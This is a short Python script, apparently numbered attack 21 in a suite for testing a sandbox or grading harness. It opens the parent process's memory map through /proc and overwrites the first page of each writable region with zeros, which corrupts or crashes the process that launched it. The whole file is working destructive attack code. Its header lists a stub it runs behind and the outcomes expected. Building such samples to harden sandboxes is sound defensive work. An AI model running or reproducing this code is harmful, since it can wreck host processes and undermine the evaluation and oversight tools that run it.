"""Writes zeros over the memory of the process above it.

Attack: 21
Behind: constant_stub.py
Keeps: none
Status: ok or crashed or timeout
Limits: 2
"""

import contextlib
import os

with contextlib.suppress(OSError), open(f"/proc/{os.getppid()}/maps") as maps:
    for line in maps:
        if " rw" in line:
            with contextlib.suppress(OSError), open(f"/proc/{os.getppid()}/mem", "r+b", 0) as memory:
                memory.seek(int(line.partition("-")[0], 16))
                memory.write(bytes(4096))
